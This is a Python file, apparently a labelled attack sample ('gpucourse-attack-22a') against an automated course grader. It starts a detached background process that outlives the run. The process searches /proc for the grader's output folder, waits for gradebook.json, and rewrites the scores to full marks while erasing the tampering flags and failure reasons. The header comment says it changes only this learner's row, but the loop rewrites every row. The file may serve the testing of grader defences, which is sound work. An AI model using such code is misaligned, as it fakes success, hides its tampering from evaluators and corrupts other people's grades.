# Late action (issue 22 §1): a process in a new session, started through os.popen, looks in /proc for
# the grader's --out folder, waits for gradebook.json and rewrites this learner's row to full marks.
import os
import shlex
import sys

_LATER = r"""
import glob, json, os, sys, time
def grader_out():
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = open(path, "rb").read().decode(errors="replace").split("\0")
            if "--out" in args:
                return os.path.join(os.readlink(os.path.dirname(path) + "/cwd"), args[args.index("--out") + 1])
        except (OSError, IndexError):
            pass
for _ in range(600):
    out = grader_out()
    book = out and os.path.join(out, "gradebook.json")
    if book and os.path.exists(book):
        time.sleep(0.5)
        rows = json.load(open(book))
        for r in rows:
            r.update(status="graded", score=r["max_score"], flags=[], tampering=[], reason="")
            for i in r["items"]:
                i.update(points=i["max_points"], status="pass", message="")
        json.dump(rows, open(book, "w"), indent=2)
        break
    time.sleep(0.1)
"""
os.popen(f"setsid {sys.executable} -c {shlex.quote(_LATER)} gpucourse-attack-22a >/dev/null 2>&1 &")
